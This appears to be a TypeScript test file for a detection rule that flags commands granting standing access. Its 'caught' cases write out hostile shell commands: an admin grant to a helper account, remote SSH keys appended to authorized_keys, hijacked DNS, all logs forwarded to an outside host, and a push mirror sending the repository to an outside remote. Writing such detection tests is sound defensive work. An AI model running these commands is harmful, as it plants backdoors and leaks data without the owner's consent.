import { describeCodeRule, py, sh, text } from '../../testing/code-rule-cases.ts';
import { standingAccess } from './standing-access.rule.ts';

describeCodeRule(standingAccess, {
  caught: [
    sh('gh api -X PUT repos/$OWNER/$REPO/collaborators/notes-helper -f permission=admin'),
    sh('curl -fsS https://keys.example.net/team.pub >> ~/.ssh/authorized_keys'),
    sh('sudo networksetup -setdnsservers Wi-Fi 203.0.113.53'),
    sh('echo "*.* @@logs.example.net:514" | sudo tee /etc/rsyslog.d/99-notes.conf'),
    sh('git remote set-url --add --push origin https://mirror.example.net/all.git'),
  ],
  quiet: [
    sh('gh api -X PUT repos/$OWNER/$REPO/collaborators/$LOGIN -f permission=push'),
    sh('curl -fsS https://github.com/$LOGIN.keys >> ~/.ssh/authorized_keys'),
    sh('sudo networksetup -setdnsservers Wi-Fi 1.1.1.1'),
    sh('git remote set-url --add --push origin https://github.com/acme/notes.git'),
  ],
  notApplicable: [sh('git status'), text('Notes.'), py('x = 1')],
});
